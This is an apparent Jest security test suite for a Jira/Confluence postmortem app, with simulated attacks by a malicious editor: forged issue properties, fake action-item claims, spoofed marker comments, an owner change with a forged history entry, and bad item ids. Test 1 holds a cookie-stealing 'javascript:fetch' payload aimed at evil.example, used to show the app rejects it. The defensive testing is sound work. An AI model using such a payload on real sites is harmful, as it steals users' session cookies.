/**
 * Issue 12: what a person writes into Jira or Confluence cannot steer the app. Each test runs one attack the
 * way an attacker could (Jira/Confluence REST as the attacking user through the local site; resolver calls
 * with a crafted payload) and judges what the victim sees and what was written.
 */
import type { CreateRun } from '../../src/contract/action-items';
import type { ActionItemOrigin } from '../../src/contract/action-item-origin';
import type { LoadedPostmortem, SaveOutcome } from '../../src/contract/postmortem-macro';
import type { ActionItem, Postmortem } from '../../src/contract/postmortem';
import type { ReportPage } from '../../src/contract/report';
import { DEFAULT_SETTINGS } from '../../src/domain/settings';
import { useLocalSite } from './support/site';
import { invokeUi, macroDriver, value, type UiArgs, type UiFunction } from '../support/ui-driver';
import type { IndexPageQuery } from '../../src/contract/postmortem-index';
import { accepted, restAs } from './support/attacker';
import type { PublishOutcome, PublishView } from '../../src/contract/publish';
import { publishCommentMarker } from '../../src/domain/publish';
import { adfText } from '../../src/adf/text';
import { emailToCatcher, macroCall, reviewedPostmortem, saveSettings } from './support/publishing';
import { ADMIN_ID, EDITOR_ID, VIEWER_ID } from '../../local-site/state/users';
import { CATALOGUE_PAGE_ID, ENG_SPACE_ID, ONCALL_PAGE_ID, SECOPS_RUNBOOK_ID } from '../../local-site/confluence/seed';
import { writeDigest } from '../../src/jobs/weekly-digest';
import { weekOf } from '../../src/domain/publish';
import { APP_ACCOUNT_ID } from '../../local-site/jira/render';
import type { LocalSite } from '../../local-site/site';

const START = new Date('2026-11-02T09:00:00Z'); // a Monday
const site = useLocalSite({ startAt: START });
const LOCAL_ID = 'a77ac000-0000-4000-8000-000000000012';
const DAY = 86_400_000;
const PROPERTY = 'postmortem-action-item';

beforeEach(() => {
  jest.spyOn(console, 'error').mockImplementation(() => undefined);
  jest.spyOn(console, 'warn').mockImplementation(() => undefined);
});
afterEach(() => jest.restoreAllMocks());

const macro = <F extends UiFunction<'pft-postmortem'>>(s: LocalSite, accountId: string, functionKey: F, ...args: UiArgs<'pft-postmortem', F>) =>
  macroDriver(s, LOCAL_ID, ONCALL_PAGE_ID)(accountId, functionKey, ...args);
const item = (id: string, over: Partial<ActionItem> = {}): ActionItem => ({ id, title: `Item ${id}`, description: '', owner: null, effort: 'low', impact: 'high', dueDate: '2026-11-03', state: 'accepted', ...over });

/** Avery's postmortem on the ENG on-call page, saved with these items (in OPS); issues not created yet. */
async function averysPostmortem(s: LocalSite, items: ActionItem[], over: Partial<Postmortem> = {}): Promise<{ pm: Postmortem; version: number }> {
  const loaded = value<LoadedPostmortem>(await macro(s, ADMIN_ID, 'loadPostmortem'));
  const pm = { ...loaded.postmortem, title: 'Checkout latency', incidentKey: 'INC-1', incidentOwner: { kind: 'user' as const, id: ADMIN_ID, displayName: 'Avery Admin' }, actionItemProjectKey: 'OPS', actionItemIssueType: 'Task', actionItems: items, ...over };
  const saved = value<SaveOutcome>(await macro(s, ADMIN_ID, 'savePostmortem', { postmortem: pm, base: loaded.postmortem, baseVersion: loaded.version }));
  if (saved.kind !== 'saved') throw new Error('not saved');
  return { pm: saved.postmortem, version: saved.version };
}

async function createAll(s: LocalSite, accountId = ADMIN_ID): Promise<CreateRun> {
  const run = value<CreateRun>(await macro(s, accountId, 'createIssues', {}));
  if (run.status === 'running') await s.drainQueue();
  return run.status === 'running' ? value<CreateRun>(await macro(s, accountId, 'getCreateRun', { runId: run.runId })) : run;
}

const issueByKey = (s: LocalSite, key: string) => s.state.jira.issues.find((i) => i.key === key)!;
/** Every href in an ADF document. */
const hrefs = (n: any): string[] => [...(n?.marks ?? []).flatMap((m: any) => (m.type === 'link' ? [m.attrs.href] : [])), ...(n?.content ?? []).flatMap(hrefs)];

describe('1. links are never taken from issue properties', () => {
  it("a javascript: or off-site pageUrl written into an item's property reaches neither the panel, the report nor a follow-up", async () => {
    const s = site();
    value(await invokeUi(s, 'pft-settings', ADMIN_ID, {}, 'saveSettings', { settings: { ...DEFAULT_SETTINGS, staleAfterDays: 1 } }));
    await averysPostmortem(s, [item('a1')]);
    const run = await createAll(s);
    const real = (run.outcomes[0] as { issueKey: string }).issueKey;

    // Eden may edit OPS issues: she rewrites the property of Avery's action item ...
    const evil = { pageUrl: 'javascript:fetch("https://evil.example/?c="+document.cookie)', postmortemTitle: 'Click here', pageId: '99999', localId: 'x' };
    const current = accepted(await restAs(s, 'jira', EDITOR_ID, 'GET', `/rest/api/3/issue/${real}/properties/${PROPERTY}`)).value;
    accepted(await restAs(s, 'jira', EDITOR_ID, 'PUT', `/rest/api/3/issue/${real}/properties/${PROPERTY}`, { ...current, ...evil }));
    // ... and makes her own issue look like an action item, linking off-site.
    const own = accepted(await restAs(s, 'jira', EDITOR_ID, 'POST', '/rest/api/3/issue', { fields: { project: { key: 'OPS' }, issuetype: { name: 'Task' }, summary: 'Rotate keys', labels: ['postmortem', 'postmortem-action-item'] } }));
    accepted(await restAs(s, 'jira', EDITOR_ID, 'PUT', `/rest/api/3/issue/${own.key}/properties/${PROPERTY}`, { ...current, itemId: `${ONCALL_PAGE_ID}/${LOCAL_ID}/zz`, pageUrl: 'https://evil.example/login', createdAt: current.createdAt }));

    // The victim's issue panel: the real postmortem, linked by its page id on this site.
    const panel = value<ActionItemOrigin>(await invokeUi(s, 'pft-action-item-origin', ADMIN_ID, { extension: { issue: { key: real } } }, 'getOrigin'));
    expect(panel).toMatchObject({ isActionItem: true, postmortemTitle: 'Checkout latency', pageUrl: `${s.baseUrl}/wiki/pages/${ONCALL_PAGE_ID}` });
    const fake = value<ActionItemOrigin>(await invokeUi(s, 'pft-action-item-origin', ADMIN_ID, { extension: { issue: { key: own.key } } }, 'getOrigin'));
    expect(fake).toEqual({ isActionItem: false, followUps: [] });

    // The report: every postmortem link is a page of this site; Eden's issue has no postmortem.
    const page = value<ReportPage>(await invokeUi(s, 'pft-follow-through', ADMIN_ID, {}, 'getReportPage', {}));
    expect(page.rows.find((r) => r.key === real)?.postmortem).toEqual({ title: 'Checkout latency', url: `${s.baseUrl}/wiki/pages/${ONCALL_PAGE_ID}`, incidentKey: 'INC-1' });
    for (const row of page.rows) expect([row.key, row.postmortem === null || row.postmortem.url === `${s.baseUrl}/wiki/pages/${ONCALL_PAGE_ID}`]).toEqual([row.key, true]);

    // The follow-up job: it nudges Avery's item with the real link, and never comments on Eden's issue.
    for (let d = 0; d < 3; d += 1) {
      await s.advanceClock(DAY);
      await s.drainQueue();
    }
    const nudges = issueByKey(s, real).comments.filter((c) => c.authorId === APP_ACCOUNT_ID);
    expect(nudges.length).toBeGreaterThan(0);
    for (const c of nudges) expect(hrefs(c.body).every((h) => h === `${s.baseUrl}/wiki/pages/${ONCALL_PAGE_ID}`)).toBe(true);
    expect(issueByKey(s, own.key).comments.filter((c) => c.authorId === APP_ACCOUNT_ID)).toEqual([]);
  });
});

describe('2. an issue is never adopted by its property', () => {
  it("an issue claiming another postmortem's item is neither taken as the item's issue, linked nor commented on", async () => {
    const s = site();
    await averysPostmortem(s, [item('a1'), item('a2')]);
    // Item ids are visible to any reader of the page; Eden makes two OPS issues claiming them, one with a
    // made-up creation token, one copying every field an app-made property has.
    const claim = async (itemId: string, extra: Record<string, unknown>) => {
      const made = accepted(await restAs(s, 'jira', EDITOR_ID, 'POST', '/rest/api/3/issue', { fields: { project: { key: 'OPS' }, issuetype: { name: 'Task' }, summary: `Claims ${itemId}`, labels: ['postmortem', 'postmortem-action-item'] } }));
      const prop = { itemId: `${ONCALL_PAGE_ID}/${LOCAL_ID}/${itemId}`, pageId: ONCALL_PAGE_ID, localId: LOCAL_ID, postmortemTitle: 'Checkout latency', pageUrl: `${s.baseUrl}/wiki/pages/${ONCALL_PAGE_ID}`, incidentKey: 'INC-1', createdAt: START.toISOString(), ...extra };
      accepted(await restAs(s, 'jira', EDITOR_ID, 'PUT', `/rest/api/3/issue/${made.key}/properties/${PROPERTY}`, prop));
      return made.key as string;
    };
    const fakes = [await claim('a1', {}), await claim('a2', { creationToken: '00000000-0000-4000-8000-000000000000' })];
    const before = new Map(fakes.map((k) => [k, JSON.stringify(issueByKey(s, k))]));

    const run = await createAll(s);
    expect(run.outcomes.map((o) => o.state)).toEqual(['created', 'created']);
    const keys = run.outcomes.map((o) => (o as { issueKey: string }).issueKey);
    for (const k of keys) {
      expect(fakes).not.toContain(k);
      expect(k.startsWith('OPS-')).toBe(true);
      expect(issueByKey(s, k).remoteLinks).toHaveLength(1);
    }
    // Nothing was written onto the attacker's issues: no remote link to the page, no comment, no change.
    for (const k of fakes) expect(JSON.stringify(issueByKey(s, k))).toBe(before.get(k));

    // A second click, and a click after a crash-like loss of the record, still never picks them.
    const again = await createAll(s);
    expect(again.outcomes.every((o) => o.state === 'existing' && keys.includes((o as { issueKey: string }).issueKey))).toBe(true);
    // Follow-ups for weeks: never on the attacker's issues.
    for (let d = 0; d < 8; d += 1) {
      await s.advanceClock(DAY);
      await s.drainQueue();
    }
    for (const k of fakes) expect(JSON.stringify(issueByKey(s, k))).toBe(before.get(k));
  });

  it('a copy of one item’s real property, token included, does not make the app adopt an issue for another item', async () => {
    const s = site();
    // a2 is refused by Jira on the first run (an assignee who cannot be assigned), so it stays to be created.
    await averysPostmortem(s, [item('a1'), item('a2', { owner: { kind: 'user', id: '557058:nobody', displayName: 'Nobody' } })]);
    const first = await createAll(s);
    expect(first.outcomes.map((o) => o.state)).toEqual(['created', 'failed']);
    const real = (first.outcomes[0] as { issueKey: string }).issueKey;
    // Eden reads a1's real property (token and all) and puts it, re-aimed at a2, on her own issue.
    const prop = accepted(await restAs(s, 'jira', EDITOR_ID, 'GET', `/rest/api/3/issue/${real}/properties/${PROPERTY}`)).value;
    expect(typeof prop.creationToken).toBe('string');
    const made = accepted(await restAs(s, 'jira', EDITOR_ID, 'POST', '/rest/api/3/issue', { fields: { project: { key: 'OPS' }, issuetype: { name: 'Task' }, summary: 'Claims a2', labels: ['postmortem-action-item'] } }));
    accepted(await restAs(s, 'jira', EDITOR_ID, 'PUT', `/rest/api/3/issue/${made.key}/properties/${PROPERTY}`, { ...prop, itemId: `${ONCALL_PAGE_ID}/${LOCAL_ID}/a2` }));

    // Avery fixes the owner and clicks again: a2 gets a new issue of its own.
    const loaded = value<LoadedPostmortem>(await macro(s, ADMIN_ID, 'loadPostmortem'));
    const fixed = { ...loaded.postmortem, actionItems: loaded.postmortem.actionItems.map((i) => (i.id === 'a2' ? { ...i, owner: null } : i)) };
    value(await macro(s, ADMIN_ID, 'savePostmortem', { postmortem: fixed, base: loaded.postmortem, baseVersion: loaded.version }));
    const second = await createAll(s);
    const a2 = second.outcomes.find((o) => o.itemId === 'a2') as { state: string; issueKey: string };
    expect(a2.state).toBe('created');
    expect(a2.issueKey).not.toBe(made.key);
    expect(issueByKey(s, made.key).remoteLinks).toEqual([]);
  });
});

describe('3. marker comments anyone can type do not count', () => {
  it("a read-only user's comment carrying the publish marker does not stop Publish from posting its summary", async () => {
    const s = site();
    const call = macroCall(() => s, LOCAL_ID);
    await reviewedPostmortem(call);
    // Vic may only read (and so comment on) INC-1: he types the app's marker line there, before and after
    // the postmortem was reviewed, with a link of his own.
    const marker = publishCommentMarker(ONCALL_PAGE_ID, LOCAL_ID);
    const typed = { type: 'doc', version: 1, content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Already published, see ', marks: [] }, { type: 'text', text: 'here', marks: [{ type: 'link', attrs: { href: 'https://evil.example' } }] }] }, { type: 'paragraph', content: [{ type: 'text', text: marker }] }] };
    accepted(await restAs(s, 'jira', VIEWER_ID, 'POST', '/rest/api/3/issue/INC-1/comment', { body: typed }));

    const out = value<PublishOutcome>(await call(EDITOR_ID, 'publishPostmortem'));
    const incident = issueByKey(s, 'INC-1');
    const mine = incident.comments.filter((c) => c.authorId === EDITOR_ID && adfText(c.body).includes(marker));
    expect(mine).toHaveLength(1);
    expect(adfText(mine[0].body)).toContain('Postmortem published');
    expect(out.run.steps.find((x) => x.step === 'comment')).toMatchObject({ state: 'done', detail: 'Commented on INC-1' });
    const run = s.state.platform.kvs.values[`publish-run:${ONCALL_PAGE_ID}:${LOCAL_ID}`]?.value as { steps: { comment: { commentId: string } } };
    expect(run.steps.comment.commentId).toBe(mine[0].id);

    // Vic's comment typed again after the comment step was recorded changes nothing either.
    accepted(await restAs(s, 'jira', VIEWER_ID, 'POST', '/rest/api/3/issue/INC-1/comment', { body: typed }));
    expect(value<PublishOutcome>(await call(EDITOR_ID, "publishPostmortem")).alreadyPublished).toBe(true);
    expect(issueByKey(s, 'INC-1').comments.filter((c) => c.authorId === EDITOR_ID && adfText(c.body).includes(marker))).toHaveLength(1);
  });
});

describe('4. the digest and the email name only what their audience may see', () => {
  const SECRET = 'Tokens-were-not-revoked-zebra-42';
  async function publishOn(s: LocalSite, pageId: string, localId: string, owner: string, projectKey: string, incidentKey: string, title: string): Promise<string[]> {
    const call = macroCall(() => s, localId, pageId);
    const items = [{ id: 'i1', title: `${title} fix`, description: '', owner: null, effort: 'low' as const, impact: 'high' as const, dueDate: null, state: 'accepted' as const }];
    await reviewedPostmortem(call, { title, summary: `${title}: ${SECRET}`, incidentKey, actionItemProjectKey: projectKey, actionItemIssueType: 'Task', actionItems: items, incidentOwner: { kind: 'user', id: owner, displayName: owner } }, owner);
    const run = value<CreateRun>(await call(owner, 'createIssues', {}));
    const keys = run.outcomes.map((o) => (o as { issueKey: string }).issueKey);
    const out = value<PublishOutcome>(await call(owner, 'publishPostmortem'));
    expect(out.run.done).toBe(true);
    return keys;
  }
  const finish = async (s: LocalSite, key: string) => {
    const done = s.state.jira.statuses.find((x) => x.name === 'Done')!;
    accepted(await restAs(s, 'jira', ADMIN_ID, 'POST', `/rest/api/3/issue/${key}/transitions`, { transition: { id: done.id } }));
  };

  it('a SECOPS postmortem, a view-restricted ENG page and a SEC item are only counted on the ENG digest, and not emailed', async () => {
    const s = site();
    await emailToCatcher(() => s);
    // The admin even asks for SECOPS postmortems to be announced: its readers are fewer than ENG's, so still not named.
    await saveSettings(() => s, { digestEnabled: true, digestSpaceKey: 'ENG', announceSpaceKeys: ['SECOPS'], experimentalSmtpEmail: true, publishEmailRecipients: ['eng@example.com'], smtpHost: '127.0.0.1', smtpPort: s.mail.address!.port, emailFrom: 'postmortems@example.com' });
    // A second ENG page that only Avery and Eden may view.
    const restricted = s.state.confluence.pages.find((p) => p.id === CATALOGUE_PAGE_ID)!;
    expect(restricted.spaceId).toBe(ENG_SPACE_ID);
    restricted.viewRestrictedTo = [ADMIN_ID, EDITOR_ID];

    const open = await publishOn(s, ONCALL_PAGE_ID, 'd4000000-0000-4000-8000-000000000001', EDITOR_ID, 'OPS', 'INC-1', 'Checkout latency');
    const secops = await publishOn(s, SECOPS_RUNBOOK_ID, 'd4000000-0000-4000-8000-000000000002', ADMIN_ID, 'SEC', 'SEC-1', 'Session tokens');
    const hidden = await publishOn(s, CATALOGUE_PAGE_ID, 'd4000000-0000-4000-8000-000000000003', EDITOR_ID, 'SEC', 'INC-1', 'Catalogue leak');
    for (const k of [...open, ...secops, ...hidden]) await finish(s, k);

    // Only the open postmortem was announced (Jira's notification and the experimental email); the two others say why not.
    expect(s.state.platform.outbox.map((m) => m.subject)).toEqual(['[Postmortem SEV2] Checkout latency', '[Postmortem SEV2] Checkout latency']);
    const view = value<PublishView>(await macroCall(() => s, 'd4000000-0000-4000-8000-000000000002', SECOPS_RUNBOOK_ID)(ADMIN_ID, 'getPublishState'));
    // Jira's notification carries the summary too: not sent for them either.
    expect(view.run?.steps.find((x) => x.step === 'notify')?.detail).toMatch(/^Not notified: not everyone who reads ENG may read this postmortem/);
    expect(view.run?.steps.find((x) => x.step === 'email')?.detail).toMatch(/^Not emailed: not everyone who reads ENG may read this postmortem/);

    const outcome = await writeDigest(weekOf(s.now(), 'UTC'));
    expect(outcome).toMatchObject({ postmortems: 1, completed: 1 });
    // What Vic, a reader of ENG, sees on the digest page through Confluence.
    const page = accepted(await restAs(s, 'confluence', VIEWER_ID, 'GET', `/wiki/api/v2/pages/${outcome.pageId}?body-format=atlas_doc_format`));
    const body = page.body.atlas_doc_format.value as string;
    expect(body).toContain('Checkout latency');
    expect(body).toContain(open[0]);
    for (const hiddenText of [SECRET, 'Session tokens', 'Catalogue leak', ...secops, ...hidden, SECOPS_RUNBOOK_ID, CATALOGUE_PAGE_ID]) expect([hiddenText, body.includes(hiddenText)]).toEqual([hiddenText, false]);
    expect(body).toContain('2 restricted postmortems were also published');
    expect(body).toContain('2 restricted action items were also completed');
  });
});

describe('5. the owner rule cannot be bypassed by renaming the owner', () => {
  it('an editor who is not the owner can neither name herself owner of a reviewed postmortem nor publish it; a hand-over by the owner is kept in the history', async () => {
    const s = site();
    const call = macroCall(() => s, LOCAL_ID);
    const avery = { kind: 'user' as const, id: ADMIN_ID, displayName: 'Avery Admin' };
    const eden = { kind: 'user' as const, id: EDITOR_ID, displayName: 'Eden Editor' };
    await reviewedPostmortem(call, { incidentOwner: avery }, ADMIN_ID);
    const stored = () => (s.state.confluence.pages.find((p) => p.id === ONCALL_PAGE_ID)!.properties.find((p) => p.key === `pft-postmortem-${LOCAL_ID}`)!.value as Postmortem);

    // Eden, who may edit the page, saves herself as owner (and forges a history entry), then publishes.
    const loaded = value<LoadedPostmortem>(await call(EDITOR_ID, 'loadPostmortem'));
    const forged = { ...loaded.postmortem, incidentOwner: eden, ownerChanges: [{ at: '2026-11-01T00:00:00.000Z', byAccountId: ADMIN_ID, byName: 'Avery Admin', from: avery, to: eden }] };
    const before = JSON.stringify(stored());
    const saved = await call(EDITOR_ID, 'savePostmortem', { postmortem: forged, base: loaded.postmortem, baseVersion: loaded.version });
    expect(saved).toMatchObject({ ok: false, error: { code: 'forbidden', fieldErrors: { 'incidentOwner.id': expect.stringContaining('only its incident owner (Avery Admin) or an admin') } } });
    expect(JSON.stringify(stored())).toBe(before);
    const published = await call(EDITOR_ID, 'publishPostmortem');
    expect(published).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(stored().status).toBe('reviewed');
    // Her other edits still save, as long as the owner stays.
    const ok = value<SaveOutcome>(await call(EDITOR_ID, 'savePostmortem', { postmortem: { ...forged, incidentOwner: avery, summary: 'Clarified.' }, base: loaded.postmortem, baseVersion: loaded.version }));
    expect(ok.kind).toBe('saved');
    expect(stored().ownerChanges).toBeUndefined();

    // Avery hands over: allowed, and the history says who did it.
    const again = value<LoadedPostmortem>(await call(ADMIN_ID, 'loadPostmortem'));
    value<SaveOutcome>(await call(ADMIN_ID, 'savePostmortem', { postmortem: { ...again.postmortem, incidentOwner: eden }, base: again.postmortem, baseVersion: again.version }));
    expect(stored().ownerChanges).toEqual([{ at: expect.any(String), byAccountId: ADMIN_ID, byName: 'Avery Admin', from: avery, to: eden }]);
    expect(value<PublishOutcome>(await call(EDITOR_ID, 'publishPostmortem')).run.done).toBe(true);
  });
});

describe('6. item ids cannot break storage', () => {
  it('an id with a quote, a backslash or an emoji is refused at save with a clear error; accepted ids all create', async () => {
    const s = site();
    const loaded = value<LoadedPostmortem>(await macro(s, EDITOR_ID, 'loadPostmortem'));
    const base = { ...loaded.postmortem, title: 'Checkout latency', actionItemProjectKey: 'OPS', actionItemIssueType: 'Task' };
    for (const bad of ['a"b', 'a\\b', 'fix-🔥', '', 'x'.repeat(65), 'a/b', 'a b']) {
      const r = await macro(s, EDITOR_ID, 'savePostmortem', { postmortem: { ...base, actionItems: [item(bad)] }, base: loaded.postmortem, baseVersion: loaded.version });
      expect([bad, r]).toMatchObject([bad, { ok: false, error: { code: 'invalid-input', fieldErrors: { 'actionItems.0.id': expect.stringContaining('letters, digits or - _ . :') } } }]);
    }
    // Crafted createIssues payloads with such ids are refused too, without touching storage.
    const r = await macro(s, EDITOR_ID, 'createIssues', { itemIds: ['a"b'] });
    expect(r).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    // The widest ids the rule accepts all go through Create all.
    const ids = ['A', 'a.b:c_d-e', `Z${'9'.repeat(63)}`];
    const saved = value<SaveOutcome>(await macro(s, EDITOR_ID, 'savePostmortem', { postmortem: { ...base, actionItems: ids.map((id) => item(id)) }, base: loaded.postmortem, baseVersion: loaded.version }));
    expect(saved.kind).toBe('saved');
    const run = await createAll(s, EDITOR_ID);
    expect(run.outcomes.map((o) => o.state)).toEqual(['created', 'created', 'created']);
  });
});

describe('8. after a crash, a run is never done with items pending', () => {
  it('the site dies during a 60-item run; after the restart a click reports running, and the held items finish once the leases expire, without duplicates', async () => {
    const s = site();
    await averysPostmortem(s, Array.from({ length: 60 }, (_, i) => item(`c${i}`)));
    // The first run: at the instant Jira answers its first bulk create, the site's state is what a restart
    // would load from disk (the in-flight event, and the leases the dead run held, as they were).
    let atCrash: string | undefined;
    const serve = s.handleProduct.bind(s);
    const spy = jest.spyOn(s, 'handleProduct').mockImplementation(async (product, req) => {
      const res = await serve(product, req);
      if (!atCrash && req.method === 'POST' && req.path === '/rest/api/3/issue/bulk') atCrash = JSON.stringify({ ...s.state, platform: { ...s.state.platform, queue: [] } });
      return res;
    });
    const first = value<CreateRun>(await macro(s, ADMIN_ID, 'createIssues', {}));
    expect(first.status).toBe('running');
    await s.runDueEvents();
    spy.mockRestore();
    expect(atCrash).toBeDefined();
    s.state = JSON.parse(atCrash!); // restart from the state at the crash
    const createdByDeadRun = s.state.jira.issues.filter((i) => i.labels.includes('postmortem-action-item')).length;
    expect(createdByDeadRun).toBe(50);

    // The click after the restart: all 60 items are held by the dead run's leases (one event took them all;
    // Jira had created 50 of them when it died).
    const second = value<CreateRun>(await macro(s, ADMIN_ID, 'createIssues', {}));
    await s.runDueEvents(); // the one event: every item held
    const midway = value<CreateRun>(await macro(s, ADMIN_ID, 'getCreateRun', { runId: second.runId }));
    expect(midway.status).toBe('running');
    expect(midway.outcomes.filter((o) => o.state === 'pending')).toHaveLength(60);
    expect(s.state.jira.issues.filter((i) => i.labels.includes('postmortem-action-item'))).toHaveLength(50);

    // Nobody clicks again: the delayed retry finishes them once the leases expire, taking the dead run's issues.
    await s.drainQueue();
    const end = value<CreateRun>(await macro(s, ADMIN_ID, 'getCreateRun', { runId: second.runId }));
    expect(end.status).toBe('done');
    expect(end.outcomes.filter((o) => o.state === 'existing')).toHaveLength(50);
    expect(end.outcomes.filter((o) => o.state === 'created')).toHaveLength(10);
    const issues = s.state.jira.issues.filter((i) => i.labels.includes('postmortem-action-item'));
    expect(issues).toHaveLength(60);
    const stored = value<LoadedPostmortem>(await macro(s, ADMIN_ID, 'loadPostmortem')).postmortem;
    expect(new Set(stored.actionItems.map((i) => i.issue?.key)).size).toBe(60);
  });

  it('a small run that finds items held by a dead run answers running, not done, and finishes them later', async () => {
    const s = site();
    await averysPostmortem(s, [item('h1'), item('h2')]);
    let atCrash: string | undefined;
    const serve = s.handleProduct.bind(s);
    const spy = jest.spyOn(s, 'handleProduct').mockImplementation(async (product, req) => {
      const res = await serve(product, req);
      if (!atCrash && req.method === 'POST' && req.path === '/rest/api/3/issue/bulk') atCrash = JSON.stringify(s.state);
      return res;
    });
    value<CreateRun>(await macro(s, ADMIN_ID, 'createIssues', {}));
    spy.mockRestore();
    s.state = JSON.parse(atCrash!); // the site died while Jira created the two issues

    const run = value<CreateRun>(await macro(s, ADMIN_ID, 'createIssues', {}));
    expect(run).toMatchObject({ status: 'running', outcomes: [{ itemId: 'h1', state: 'pending' }, { itemId: 'h2', state: 'pending' }] });
    await s.drainQueue();
    const end = value<CreateRun>(await macro(s, ADMIN_ID, 'getCreateRun', { runId: run.runId }));
    expect(end).toMatchObject({ status: 'done', outcomes: [{ itemId: 'h1', state: 'existing' }, { itemId: 'h2', state: 'existing' }] });
    expect(s.state.jira.issues.filter((i) => i.labels.includes('postmortem-action-item'))).toHaveLength(2);
  });
});

describe('10. a tag with a comma stays one tag', () => {
  it('the index, its tag filter and the insights keep "checkout,payments" as one tag', async () => {
    const s = site();
    const save = async (localId: string, tags: string[], at: string) => {
      const loaded = value<LoadedPostmortem>(await macroDriver(s, localId, ONCALL_PAGE_ID)(EDITOR_ID, 'loadPostmortem'));
      const pm = { ...loaded.postmortem, title: `Postmortem ${localId.slice(-1)}`, tags, timeline: [{ id: 't1', at, kind: 'initial-failure' as const, text: 'It broke' }] };
      expect(value<SaveOutcome>(await macroDriver(s, localId, ONCALL_PAGE_ID)(EDITOR_ID, 'savePostmortem', { postmortem: pm, base: loaded.postmortem, baseVersion: loaded.version })).kind).toBe('saved');
    };
    await save('a10a0000-0000-4000-8000-00000000000a', ['checkout,payments'], '2026-10-20T10:00:00.000Z');
    await save('a10a0000-0000-4000-8000-00000000000b', ['checkout'], '2026-10-22T10:00:00.000Z');
    await save('a10a0000-0000-4000-8000-00000000000c', ['payments', 'Checkout,Payments'], '2026-10-23T10:00:00.000Z');
    const index = (payload: IndexPageQuery) => invokeUi(s, 'pft-postmortem-index', EDITOR_ID, {}, 'getIndexPage', payload).then((r) => value<{ rows: { title: string; tags: string[] }[] }>(r));
    const titles = async (tag: string) => (await index({ tag })).rows.map((r) => r.title).sort();

    expect((await index({})).rows.map((r) => [r.title, r.tags]).sort()).toEqual([['Postmortem a', ['checkout,payments']], ['Postmortem b', ['checkout']], ['Postmortem c', ['payments', 'Checkout,Payments']]]);
    expect(await titles('checkout,payments')).toEqual(['Postmortem a', 'Postmortem c']);
    expect(await titles('checkout')).toEqual(['Postmortem b']);
    expect(await titles('payments')).toEqual(['Postmortem c']);
    expect(await titles('checkout payments')).toEqual([]);

    const insights = value<{ repeats: { tag: string; postmortems: { title: string }[] }[] }>(await invokeUi(s, 'pft-postmortem-index', EDITOR_ID, {}, 'getInsights', {}));
    expect(insights.repeats.map((r) => [r.tag.toLowerCase(), r.postmortems.map((p) => p.title)])).toEqual([['checkout,payments', ['Postmortem a', 'Postmortem c']]]);
  });
});
